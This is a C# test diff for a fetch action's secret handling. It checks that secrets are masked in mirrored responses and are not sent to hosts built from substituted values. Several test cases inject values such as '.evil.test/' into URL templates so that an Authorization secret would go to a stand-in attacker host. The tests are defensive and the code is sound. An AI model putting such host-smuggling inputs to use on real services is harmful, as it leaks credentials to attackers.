@@ -82,15 +82,55 @@ public sealed class FetchActionTests : IAsyncLifetime
         Assert.Equal("127.0.0.1 redirects to another server, which may not get the secret.", moved.Error());
     }
 
-    [Fact]
-    public async Task Secret_IsNotSentToAHostThatAValueHasMade()
+    [Theory]
+    [InlineData("plain", "tok+/=AbC9", "Bearer $", """{"whole":"Bearer ********","escaped":"Bearer ********"}""")]
+    [InlineData("plain", "tok+/=AbC9", "a=$; b=1", """{"whole":"a=********; b=1","escaped":"a=********; b=1"}""")]
+    [InlineData("basic", "ada:p4ss w0rd", "$", """{"whole":"********","escaped":"********","name":"ada","password":"********"}""")]
+    public async Task Secret_IsMasked_HoweverTheAnswerWritesIt(string type, string value, string header, string body)
+    {
+        await _server.PostAsync("secret/create", $$"""{"name":"key","type":"{{type}}","value":"{{value}}"}""");
+        header = header.Replace("$", "${SECRET_KEY}", StringComparison.Ordinal);
+
+        var answer = await _server.Owner.ExecuteAsync($"!fetch {{url: '{_web.Url}/mirror', headers: {{X-Key: '{header}'}}, options: {{format: json}}}}");
+        var failed = await _server.Owner.ExecuteAsync(
+            $"!fetch {{url: '{_web.Url}/mirror', headers: {{X-Key: '{header}'}}, options: {{errorJmespath: escaped}}}}");
+
+        Assert.Equal(body, answer.Result());
+        Assert.Equal(System.Text.Json.JsonElement.Parse(body).Text("escaped"), failed.Error());
+    }
+
+    [Theory]
+    [InlineData("url: 'https://api.example.com$[part]'", ".evil.test/", "api.example.com.evil.test")]
+    [InlineData("uri: 'https://api.example.com$[part]'", ".evil.test/", "api.example.com.evil.test")]
+    [InlineData("url: 'https://tools$[part]'", ".evil.test/", "tools.evil.test")]
+    [InlineData("url: 'https://$[part].example.com/a'", "evil.test/?", "evil.test")]
+    [InlineData("url: 'https://$[part].example.com:8443/a'", "evil.test#", "evil.test")]
+    [InlineData("url: 'https://api-$[part].example.com/a'", "x.evil.test/?", "api-x.evil.test")]
+    [InlineData("url: '$[part]://api.example.com/a'", "https://evil.test/?", "evil.test")]
+    public async Task Secret_IsNotSentToAHostThatAValueHasMade(string address, string part, string host)
     {
         await _server.PostAsync("secret/create", """{"name":"key","kind":"shared","value":"s3cr3t-value"}""");
 
-        var answer = await _server.Owner.ExecuteAsync(
-            "!fetch {url: 'https://api.example.com$[path]', headers: {Authorization: '${SECRET_KEY}'}}", new { path = ".evil.test/" });
+        var answer = await _server.Owner.ExecuteAsync($"!fetch {{{address}, headers: {{Authorization: '${{SECRET_KEY}}'}}}}", new { part });
 
-        Assert.Equal("The secret can't be sent to api.example.com.evil.test: the instruction does not name this host.", answer.Error());
+        Assert.Equal($"The secret can't be sent to {host}: the instruction does not name this host.", answer.Error());
+    }
+
+    [Theory]
+    [InlineData("{web}$[part]", "/json")]
+    [InlineData("http://127.$[part].1:{port}/json", "0.0")]
+    [InlineData("http://$[part]:{port}/json", "127.0.0.1")]
+    [InlineData("$[part]/json?to=https://other.test/", "{web}")]
+    public async Task Secret_IsSentToAHostThatTheInstructionLeavesOpen(string address, string part)
+    {
+        await _server.PostAsync("secret/create", """{"name":"key","kind":"shared","value":"s3cr3t-value"}""");
+        string Filled(string text) => text.Replace("{web}", _web.Url, StringComparison.Ordinal)
+            .Replace("{port}", new Uri(_web.Url).Port.ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal);
+
+        var answer = await _server.Owner.ExecuteAsync(
+            $"!fetch {{url: '{Filled(address)}', headers: {{Authorization: '${{SECRET_KEY}}'}}, options: {{jmespath: 'items[0].id'}}}}", new { part = Filled(part) });
+
+        Assert.Equal("1", answer.Result());
     }
 
     [Fact]
@@ -122,6 +162,17 @@ public sealed class FetchActionTests : IAsyncLifetime
         app.MapGet("/picture", () => Results.Bytes(new byte[10], "image/png"));
         app.MapGet("/headers", (HttpContext context) => Results.Text($"{context.Request.Headers.Authorization.ToString()["Bearer ".Length..].Length} {context.Request.Headers.Authorization.ToString()["Bearer ".Length..]}", "text/plain"));
         app.MapPost("/key", (HttpContext context) => Results.Text(context.Request.Headers["Idempotency-Key"].ToString(), "text/plain"));
+        // JSON may write every character as its number.
+        app.MapGet("/mirror", (HttpContext context) =>
+        {
+            var key = context.Request.Headers["X-Key"].ToString();
+            var escaped = string.Concat(key.Select(letter => $"\\u{(int)letter:x4}"));
+            var pair = key.StartsWith("Basic ", StringComparison.Ordinal)
+                ? System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(key["Basic ".Length..])).Split(':')
+                : null;
+            var more = pair is null ? "" : $",\"name\":\"{pair[0]}\",\"password\":\"{pair[1]}\"";
+            return Results.Text($"{{\"whole\":\"{key}\",\"escaped\":\"{escaped}\"{more}}}", "application/json");
+        });
         app.MapGet("/silent", async context => await Task.Delay(Timeout.Infinite, context.RequestAborted));
         app.MapGet("/endless", async context =>
         {
